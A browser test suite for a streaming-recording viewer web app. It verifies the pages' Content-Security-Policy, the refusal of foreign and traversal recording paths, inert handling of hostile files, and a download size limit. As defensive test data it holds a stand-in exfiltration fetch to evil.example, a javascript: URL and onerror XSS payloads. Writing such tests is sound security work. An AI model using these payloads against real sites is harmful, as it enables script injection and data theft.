// Safety of the built pages, in Chromium: the Content-Security-Policy on index.html and embed.html (no eval, no
// inline script or handler, scripts from self only, no foreign connection); rec= values that are not this site's recordings or an allowed origin are
// refused without a request; hostile recordings (HTML and </script> everywhere, right-to-left overrides, a 1 MB
// single line) are inert: nothing executes, nothing hangs, the layout holds.
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createGzip } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { appUrl, launch, watchErrors } from './browser';
import { anthropicEvents, jsonlText, sseText } from './files-fixtures';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(async () => {
  await browser.close();
});

const ready = (page: Page) => page.locator('input[type=range]:not([disabled])').waitFor();

/** The directives of the CSP meta tag of a built page, as {name: [values]}. */
async function cspOf(path: string): Promise<Record<string, string[]>> {
  const html = await (await fetch(appUrl(path))).text();
  const m = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
  if (!m) throw new Error(`${path}: no CSP meta tag`);
  return Object.fromEntries(
    m[1]!
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .map(([name, ...values]) => [name!, values]),
  );
}

test.each(['index.html', 'embed.html'])('%s carries a CSP: scripts from self only, no eval, no inline script, no plugins', async (path) => {
  const csp = await cspOf(path);
  expect(csp['script-src']).toEqual(["'self'"]);
  expect(csp['object-src']).toEqual(["'none'"]);
  expect(csp['base-uri']).toEqual(["'self'"]);
  expect(csp['default-src']).toEqual(["'self'"]);
  for (const values of Object.values(csp)) expect(values).not.toContain("'unsafe-eval'");
  // connect-src: only self (plus the build-time allowlist, empty in this build)
  expect(csp['connect-src']).toEqual(["'self'"]);
  // nothing inline at all, styles included; workers are files of this site
  for (const values of Object.values(csp)) expect(values).not.toContain("'unsafe-inline'");
  expect(csp['style-src']).toEqual(["'self'"]);
  expect(csp['worker-src']).toEqual(["'self'"]);
  expect(csp['img-src']).toEqual(["'self'", 'blob:']);
});

/** A page whose `securitypolicyviolation` events and console CSP messages are collected from its first script on. */
async function watchedPage(): Promise<{ page: Page; violations: () => Promise<string[]> }> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const consoleCsp: string[] = [];
  page.on('console', (m) => {
    if (/Content.Security.Policy/i.test(m.text())) consoleCsp.push(`console: ${m.text().slice(0, 200)}`);
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
  });
  const violations = async () => [...(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)), ...consoleCsp];
  return { page, violations };
}

test('the app runs under its CSP with no violation: analysis and fetch workers, highlighting, lab, matrix, comparison, waterfall and its exports', async () => {
  for (const path of ['?lang=en&rec=agent-run', '?lang=zh&rec=parallel-probe&compare=1', '?lang=en&rec=parallel-probe&lab=1&faults=rechunk:3&matrix=1']) {
    const { page, violations } = await watchedPage();
    const errors = watchErrors(page);
    await page.goto(appUrl(path));
    await ready(page);
    await page.keyboard.press('End');
    if (path.includes('agent-run')) {
      // shiki's JavaScript regex engine coloured the JSON (token colours are set through CSSOM)
      await page.locator('span[style*="color"]').first().waitFor();
      await page.locator('.wf-lazy').scrollIntoViewIfNeeded();
      await page.getByRole('region', { name: 'Span waterfall' }).waitFor();
      for (const name of ['Export SVG', 'Export PNG']) {
        const download = page.waitForEvent('download');
        await page.getByRole('button', { name }).first().click();
        expect((await download).suggestedFilename(), name).toMatch(/^streamscope-waterfall\.(svg|png)$/);
      }
    }
    await page.waitForTimeout(500);
    expect(await violations(), path).toEqual([]);
    expect(errors, path).toEqual([]);
    await page.close();
  }
});

test('the embed and the example course page (iframe + custom element, styles adopted, not a <style>) run under the CSP with no violation', async () => {
  const { page, violations } = await watchedPage();
  await page.goto(appUrl('embed.html?lang=en&rec=agent-run&panels=waterfall'));
  await ready(page);
  await page.keyboard.press('End');
  await page.waitForTimeout(500);
  expect(await violations()).toEqual([]);
  await page.goto(appUrl('examples/course.html'));
  await expect.poll(() => page.locator('#iframe-status').textContent(), { timeout: 20_000 }).toMatch(/^ready: \d+ frames$/);
  const el = page.locator('streamscope-player').first();
  await el.scrollIntoViewIfNeeded();
  await el.locator('input[type=range]:not([disabled])').waitFor();
  const sheets = await el.evaluate((host) => ({ adopted: host.shadowRoot?.adoptedStyleSheets.length ?? 0, styleElements: host.shadowRoot?.querySelectorAll('style').length ?? -1 }));
  expect(sheets).toEqual({ adopted: 1, styleElements: 0 });
  await page.waitForTimeout(500);
  expect(await violations()).toEqual([]);
  await page.close();
});

test.each(['?lang=en', 'embed.html?lang=en'])('the CSP of %s blocks an injected inline script, an inline handler and a foreign fetch', async (path) => {
  const page = await browser.newPage();
  const violations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  await page.goto(appUrl(path));
  await ready(page);
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as { __injected?: number };
    const s = document.createElement('script');
    s.textContent = 'window.__injected = 1';
    document.head.appendChild(s);
    // an inline event handler is inline script too
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__injected = 2');
    document.body.appendChild(img);
    img.src = 'data:,not-an-image';
    await new Promise((resolve) => img.addEventListener('error', resolve));
    img.remove();
    let fetchError = '';
    try {
      await fetch('https://evil.example/steal');
    } catch (e) {
      fetchError = (e as Error).name;
    }
    return { injected: w.__injected ?? null, fetchError };
  });
  expect(outcome).toEqual({ injected: null, fetchError: 'TypeError' });
  expect(violations.filter((v) => /inline (script|event handler)/i.test(v)).length).toBeGreaterThanOrEqual(2);
  expect(violations.some((v) => /connect-src/.test(v))).toBe(true);
  await page.close();
});

/** Requests (other than the pages themselves, whose query names the value) to another host or naming `needle`. */
const fetchedFor = (requests: string[], needle: string) =>
  requests.filter((u) => {
    const url = new URL(u);
    return url.origin !== new URL(appUrl()).origin || (url.pathname + url.hash).includes(needle);
  });

test.each([
  ['https://evil.example/x.jsonl', 'evil.example'],
  ['//evil.example/x.jsonl', 'evil.example'],
  ['../../outside.jsonl', 'outside.jsonl'],
  ['javascript:alert(1)', 'alert'],
])('rec=%s is refused in words and never requested', async (rec, needle) => {
  const page = await browser.newPage();
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(appUrl(`?lang=en&rec=${encodeURIComponent(rec)}`));
  // the value is shown bidi-isolated (U+2068 ... U+2069) inside the quotes
  const named = new RegExp(`Not loading “\u2068?${rec.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}\u2069?”`);
  const alert = page.getByRole('alert').filter({ hasText: named });
  await alert.waitFor();
  await expect(alert.textContent()).resolves.toContain('rec= opens only this site’s recordings');
  await page.waitForTimeout(300);
  expect(fetchedFor(requests, needle)).toEqual([]);
  expect(dialogs).toEqual([]);
  // the same in an embed
  await page.goto(appUrl(`embed.html?lang=en&rec=${encodeURIComponent(rec)}`));
  await page.getByRole('alert').filter({ hasText: named }).waitFor();
  expect(fetchedFor(requests, needle)).toEqual([]);
  await page.close();
});

test('rec= a relative path under recordings/ loads that file', async () => {
  const page = await browser.newPage();
  const errors = watchErrors(page);
  await page.goto(appUrl('?lang=en&rec=agent-run.jsonl'));
  await ready(page);
  await page.getByRole('radiogroup', { name: 'Assembly strategy' }).waitFor();
  expect(errors).toEqual([]);
  await page.close();
});

/** Opens `text` as `name` through the file input and checks the page stays inert and laid out. */
async function openHostile(name: string, text: string | Buffer, viewport = { width: 1280, height: 900 }) {
  const page = await browser.newPage({ viewport });
  const errors = watchErrors(page);
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  await page.goto(appUrl('?lang=en'));
  await ready(page);
  const started = Date.now();
  await page.getByLabel('Open recording', { exact: true }).setInputFiles({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });
  await page.waitForFunction((n) => (document.querySelector('.ss-picker select') as HTMLSelectElement | null)?.value === `file:${n}`, name);
  await ready(page);
  const loadMs = Date.now() - started;
  // walk every frame quickly, each strategy, compare view: nothing may run
  const slider = page.getByRole('slider', { name: 'Frame', exact: true });
  await slider.focus();
  await page.keyboard.press('End');
  for (const label of ['Parse every fragment', 'One shared buffer', 'One buffer per call', 'Partial JSON preview']) {
    const radio = page.getByRole('radio', { name: label, exact: true });
    if (await radio.isEnabled()) await radio.check();
  }
  await slider.focus();
  for (let i = 0; i < 12; i++) await page.keyboard.press('ArrowLeft');
  await page.getByRole('checkbox', { name: 'Compare strategies' }).check();
  await page.waitForTimeout(300);
  const state = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
    imgs: document.querySelectorAll('img').length,
    svgOnload: document.querySelectorAll('[onload],[onerror]').length,
    scripts: [...document.scripts].map((s) => s.src || 'inline'),
    overflowX: document.documentElement.scrollWidth - window.innerWidth,
  }));
  return { page, errors, dialogs, requests, state, loadMs };
}

const expectInert = (r: Awaited<ReturnType<typeof openHostile>>) => {
  expect(r.dialogs).toEqual([]);
  expect(r.state.pwned).toBeNull();
  expect(r.state.imgs).toBe(0);
  expect(r.state.svgOnload).toBe(0);
  expect(r.state.scripts.every((s) => s !== 'inline' && new URL(s).origin === new URL(appUrl()).origin)).toBe(true);
  expect(r.requests.filter((u) => !u.startsWith(new URL(appUrl()).origin) && !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([]);
  expect(r.state.overflowX).toBeLessThanOrEqual(0);
  expect(r.errors).toEqual([]);
};

test('HTML and </script> in every recorded string render as text, and nothing runs', async () => {
  const text = readFileSync('test/fixtures/hostile/html-everywhere.jsonl', 'utf8');
  const r = await openHostile('html-everywhere.jsonl', text);
  expectInert(r);
  // shown as the characters it is made of
  await r.page.getByText('<img src=x onerror="window.__pwned=1;alert(1)"> title').first().waitFor();
  // the provenance link to javascript: is not a link
  await expect(r.page.locator('a[href^="javascript:"]').count()).resolves.toBe(0);
  await r.page.close();
});

test('right-to-left overrides stay inside the recorded strings: nothing runs, the layout holds', async () => {
  const text = readFileSync('test/fixtures/hostile/rtl-override.sse', 'utf8');
  const r = await openHostile('rtl-override.sse', text);
  expectInert(r);
  await r.page.close();
});

test('a right-to-left override in a recorded string cannot reorder the app’s own words around it', async () => {
  const text = readFileSync('test/fixtures/hostile/rtl-override.sse', 'utf8');
  const r = await openHostile('rtl-override.sse', text);
  await r.page.getByRole('checkbox', { name: 'Compare strategies' }).uncheck();
  await r.page.getByRole('radio', { name: 'One buffer per call', exact: true }).check();
  await r.page.getByRole('slider', { name: 'Frame', exact: true }).focus();
  await r.page.keyboard.press('End');
  await r.page.getByRole('region', { name: 'Parse results' }).locator('.ss-call').first().waitFor();
  // An override reaches to the end of its bidi scope: the nearest block or isolate (unicode-bidi isolate, <bdi>).
  // After the first override in a scope there must be no app words (letters or digits that are not part of a
  // recorded string): the recorded strings are every string value and event name in the fixture.
  const recorded = new Set<string>();
  // (with the JSON's keys and scalars and the SSE field names: a frame's raw text and pretty JSON are recorded too)
  const collect = (v: unknown): void => {
    if (typeof v === 'string') {
      recorded.add(v);
      // quoted parts of JSON carried inside strings (argument fragments)
      for (const m of v.matchAll(/"([^"]*)"/g)) recorded.add(m[1]!);
    } else if (typeof v === 'number' || typeof v === 'boolean' || v === null) recorded.add(String(v));
    else if (typeof v === 'object') {
      Object.keys(v).forEach((k) => recorded.add(k));
      Object.values(v).forEach(collect);
    }
  };
  ['data:', 'event:'].forEach((f) => recorded.add(f));
  for (const line of text.split('\n')) {
    if (line.startsWith('event: ')) recorded.add(line.slice(7));
    if (line.startsWith('data: ') && line !== 'data: [DONE]') collect(JSON.parse(line.slice(6)));
  }
  const tokens = [...recorded].filter((t) => t.length > 0).sort((a, b) => b.length - a.length);
  const leaks = await r.page.evaluate((tokens) => {
    const BIDI = /[\u202a-\u202e\u2066-\u2068]/;
    const scopeOf = (el: Element): Element => {
      for (let e: Element | null = el; e; e = e.parentElement) {
        const cs = getComputedStyle(e);
        if (e.tagName === 'BDI' || /isolate|plaintext/.test(cs.unicodeBidi) || (cs.display !== 'inline' && cs.display !== 'contents')) return e;
      }
      return document.body;
    };
    const out: string[] = [];
    const seen = new Set<Element>();
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      const parent = n.parentElement;
      if (!parent || !BIDI.test(n.nodeValue ?? '') || parent.closest('title, script, style, [hidden]')) continue;
      const scope = scopeOf(parent);
      if (seen.has(scope)) continue;
      seen.add(scope);
      const whole = scope.textContent ?? '';
      let masked = whole;
      for (const t of tokens) masked = masked.split(t).join('\u0001'.repeat(t.length));
      const first = whole.search(BIDI);
      if (/[\p{L}\p{N}]/u.test(masked.slice(first))) out.push(`${JSON.stringify(whole.slice(0, 70))} (${scope.tagName.toLowerCase()}.${String(scope.className)})`);
    }
    return out;
  }, tokens);
  expect(leaks).toEqual([]);
  await r.page.close();
});

test.each([
  ['one-mb-args.jsonl', () => jsonlText(sseText(anthropicEvents([['{"blob": "', 'x'.repeat(1 << 20) + '"}'], ['{"a":', '1}']])))],
  ['one-mb-line.sse', () => `data: ${'<img src=x onerror=alert(1)>'.repeat(Math.ceil((1 << 20) / 28))}\n\n${sseText()}`],
])('a 1 MB single line (%s) loads without hanging and keeps the layout', async (name, make) => {
  const text = make();
  expect(text.length).toBeGreaterThan(1 << 20);
  const r = await openHostile(name, text);
  expectInert(r);
  expect(r.loadMs).toBeLessThan(15_000);
  // still responsive: a step is reflected at once
  const slider = r.page.getByRole('slider', { name: 'Frame', exact: true });
  await slider.focus();
  await r.page.keyboard.press('Home');
  const t0 = Date.now();
  await r.page.keyboard.press('ArrowRight');
  await r.page.waitForFunction(() => (document.querySelector('input[type=range]') as HTMLInputElement).value === '1');
  expect(Date.now() - t0).toBeLessThan(2_000);
  await r.page.close();
});

// The size limit while reading, in Chromium: a server in front of the built app (every other path passed through)
// sends a recording past the 200 MB limit chunked with no Content-Length, and gzip-encoded with the compressed size
// as Content-Length (far under the limit). The fetch worker counts the bytes as they arrive and stops.
describe('a recording past the size limit while it arrives', () => {
  const LIMIT = 200 * 1024 * 1024;
  const LINE = `${JSON.stringify([1, 'chunk', 'data: {"choices":[{"index":0,"delta":{"content":"x"}}]}\n\n'])}\n`;
  const BLOCK = Buffer.from(LINE.repeat(Math.floor((1024 * 1024) / LINE.length)));
  const HEAD = Buffer.from('{"streamscope":1,"wire":"openai-chat"}\n[0,"req",{}]\n');
  /** Blocks sent in all: 64 MB past the limit (more than any socket buffers, so a cancelled download shows). */
  const BLOCKS = Math.ceil((LIMIT + 64 * 1024 * 1024) / BLOCK.length);
  let gzipped: Buffer;
  let proxy: Server;
  let base = '';
  let chunkedSent = 0;

  beforeAll(async () => {
    const parts: Buffer[] = [];
    const gz = createGzip({ level: 1 });
    gz.on('data', (b: Buffer) => parts.push(b));
    const done = new Promise((r) => gz.on('end', r));
    gz.write(HEAD);
    for (let i = 0; i < BLOCKS; i++) gz.write(BLOCK);
    gz.end();
    await done;
    gzipped = Buffer.concat(parts);
    proxy = createServer((req, res) => {
      const path = req.url ?? '/';
      if (path.startsWith('/recordings/__big-chunked.jsonl')) {
        res.writeHead(200, { 'content-type': 'application/x-ndjson' });
        res.write(HEAD);
        let n = 0;
        let closed = false;
        res.on('close', () => (closed = true));
        const write = () => {
          while (!closed && n < BLOCKS) {
            n++;
            chunkedSent = n;
            if (!res.write(BLOCK)) return void res.once('drain', write);
          }
          res.end();
        };
        write();
        return;
      }
      if (path.startsWith('/recordings/__big-gzip.jsonl')) {
        res.writeHead(200, { 'content-type': 'application/x-ndjson', 'content-encoding': 'gzip', 'content-length': gzipped.length });
        res.end(gzipped);
        return;
      }
      void fetch(appUrl(path.slice(1))).then(async (r) => {
        res.writeHead(r.status, { 'content-type': r.headers.get('content-type') ?? 'application/octet-stream' });
        res.end(Buffer.from(await r.arrayBuffer()));
      });
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}/`;
  }, 60_000);

  afterAll(async () => {
    proxy.closeAllConnections();
    await new Promise((r) => proxy.close(r));
  });

  test('chunked (no Content-Length) and gzip-encoded (compressed Content-Length): stopped at the limit, named, the previous recording kept', async () => {
    expect(gzipped.length).toBeLessThan(LIMIT / 50);
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const errors = watchErrors(page);
    await page.goto(`${base}?lang=en&rec=agent-run`);
    await ready(page);
    const frames = await page.locator('input[type=range]:not([disabled])').first().getAttribute('max');
    for (const name of ['__big-chunked.jsonl', '__big-gzip.jsonl']) {
      await page.evaluate((rec) => {
        history.pushState(null, '', `?lang=en&rec=${rec}`);
        dispatchEvent(new PopStateEvent('popstate'));
      }, name);
      // the values are shown bidi-isolated (U+2068 ... U+2069)
      const alert = page.getByRole('alert').filter({ hasText: /MB limit while it was arriving/ });
      await alert.waitFor({ timeout: 45_000 });
      await expect(alert.textContent()).resolves.toMatch(new RegExp(`^\u2068?${name.replace('.', '\\.')}\u2069? passed the \u2068?200\u2069? MB limit`));
      // the recording shown before is still there, its slider usable
      await expect(page.locator('input[type=range]:not([disabled])').first().getAttribute('max')).resolves.toBe(frames);
    }
    // the worker cancelled the download: the server did not get to send everything
    expect(chunkedSent).toBeLessThan(BLOCKS);
    expect(errors).toEqual([]);
    await page.close();
  }, 120_000);
});
